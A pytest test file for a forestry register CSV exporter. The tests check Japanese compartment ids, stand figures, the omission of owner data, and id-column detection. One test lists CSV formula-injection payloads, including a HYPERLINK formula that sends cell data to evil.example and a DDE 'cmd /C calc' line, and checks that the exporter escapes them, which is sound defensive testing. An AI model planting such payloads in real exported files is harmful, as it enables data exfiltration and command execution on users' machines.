"""The table for the register: its ids as they are, its names of columns, nothing invented."""

import csv
import io
from dataclasses import replace

import geopandas as gpd
import numpy as np
import pytest
import shapely
from stand_maps import HOSTILE, StandMap

from pipelines.forest.compartments import id_columns, stand_names
from pipelines.forest.register_csv import register_csv


def _read(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_excel_opens_it_and_the_registers_own_ids_come_first_unchanged(stand_map: StandMap) -> None:
    data = stand_map.published.reports.table.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.endswith(b"\r\n")
    rows = _read(data)
    assert list(rows[0])[:4] == ["林班", "小班", "枝番", "林分"]
    assert len(rows) == 12
    assert [row["林班"] for row in rows] == ["012"] * 6 + ["013"] * 6
    assert (rows[2]["小班"], rows[10]["小班"]) == (HOSTILE, "5, 6")
    assert [row["枝番"] for row in rows[:2]] == ["1", ""]
    assert [row["林分"] for row in rows[:2]] == ["012-1-1", "012-2"]


def test_figures_are_those_of_the_map_and_what_is_unknown_is_empty(stand_map: StandMap) -> None:
    rows, stands = _read(register_csv(stand_map.results, "ja")), stand_map.results.stands
    assert [int(row["立木本数(本)"]) for row in rows[:-1]] == list(stands["n_crowns"][:-1])
    for heading, column in (("面積(ha)", "area_ha"), ("立木密度(本/ha)", "stem_density_ha"), ("樹高(m)", "height_m")):
        told = [float(row[heading]) for row in rows[:-1]]
        np.testing.assert_allclose(told, stands[column][:-1].astype(float), rtol=0.01, atol=0.5)
    unseen = rows[-1]
    assert unseen["撮影率(%)"] == "0.0"
    empty = ["区分", "立木本数(本)", "立木密度(本/ha)", "立木密度_下限90%(本/ha)", "樹冠被覆率(%)", "樹高(m)"]
    assert [unseen[heading] for heading in empty] == [""] * 6


def test_age_volume_species_and_owners_are_not_there_even_where_the_register_has_them(stand_map: StandMap) -> None:
    text = register_csv(stand_map.results, "ja").decode("utf-8-sig")
    assert "山田太郎" not in text
    for word in ("林齢", "材積", "樹種", "所有"):
        assert word not in text.splitlines()[0]


def test_a_row_is_found_on_any_map_by_the_place_inside_its_stand(stand_map: StandMap) -> None:
    rows, stands = _read(register_csv(stand_map.results, "ja")), stand_map.results.stands.to_crs(6668)
    for row, shape in zip(rows, stands.geometry, strict=True):
        assert shape.contains(shapely.Point(float(row["代表点_経度"]), float(row["代表点_緯度"])))


def test_without_a_register_compartments_are_empty_and_stands_have_the_maps_names(stand_map: StandMap) -> None:
    stands = stand_map.results.stands[["stand", *stand_map.results.stands.columns[6:]]].copy()
    stands = stands.assign(origin="delineated", stand=[f"S{k}" for k in range(1, 13)], 林班="x")
    rows = _read(register_csv(replace(stand_map.results, stands=stands), "ja"))
    assert list(rows[0])[:3] == ["林班", "小班", "林分"]
    assert {(row["林班"], row["小班"]) for row in rows} == {("", "")}
    assert rows[0]["林分"] == "S1"


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1)', None),
        ("+1+cmd|' /C calc'!A0", None),
        ("-2+3", None),
        ("@SUM(A1)", None),
        ("\t=1", None),
        ("\r=1", None),
        ("＝1+1", None),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-", "-"),
        ("い-3", "い-3"),
    ],
)
def test_text_that_a_spreadsheet_would_compute_is_kept_from_it(stand_map: StandMap, written: str, read: str) -> None:
    stands = stand_map.results.stands.assign(小班=written, stand=written)
    rows = _read(register_csv(replace(stand_map.results, stands=stands), "ja"))
    expected = f"'{written}" if read is None else read
    assert {row["小班"] for row in rows} == {row["林分"] for row in rows} == {expected}


def test_headings_in_english_and_no_stands_at_all(stand_map: StandMap) -> None:
    none = replace(stand_map.results, stands=stand_map.results.stands.iloc[:0])
    lines = register_csv(none, "en").decode("utf-8-sig").splitlines()
    assert len(lines) == 1
    assert lines[0].startswith("Compartment,Subcompartment,Stand,Kind,Area (ha)")


@pytest.mark.parametrize(
    ("columns", "found"),
    [
        (["樹種", "小班", "林班", "面積"], ["林班", "小班"]),
        (["shouhan", "Rinpan", "area"], ["Rinpan", "shouhan"]),
        (["SYOHAN_NO", "RINHAN_NO", "EDABAN", "KAISUI"], ["RINHAN_NO", "SYOHAN_NO", "EDABAN"]),
        (["準林班番号", "小班枝番", "林班主番", "小班面積"], ["林班主番", "準林班番号", "小班枝番"]),
        (["compartment", "sub_compartment", "owner"], ["compartment", "sub_compartment"]),
        (["BlockID", "Shape_Area", "name"], ["BlockID"]),
        (["reg_stand", "林班"], ["林班", "reg_stand"]),
        (["林班界", "小班面積", "林相"], []),
    ],
)
def test_id_columns_are_known_by_their_names(columns: list[str], found: list[str]) -> None:
    assert id_columns(columns) == found


@pytest.mark.parametrize(
    ("table", "names", "column"),
    [
        ({"林班": ["12", "12"], "小班": ["い", None]}, ["12-い", "12"], "林班-小班"),
        ({"小班": [7.0, np.nan]}, ["7", "(2)"], "小班"),
        ({"name": ["a", "b"], "小班": ["x", "y"]}, ["x", "y"], "小班"),
        ({"BlockID": [3, 4], "林班": ["1", "1"]}, ["3", "4"], "BlockID"),
        ({"Name": ["a", "b"], "x": [1, 2]}, ["a", "b"], "Name"),
        ({"x": [1, 2]}, ["1", "2"], ""),
    ],
)
def test_stands_are_called_as_their_register_calls_them(table: dict, names: list[str], column: str) -> None:
    frame = gpd.GeoDataFrame(table, geometry=[shapely.box(0, 0, 1, 1)] * 2, crs=6677)
    assert stand_names(frame) == (names, column)
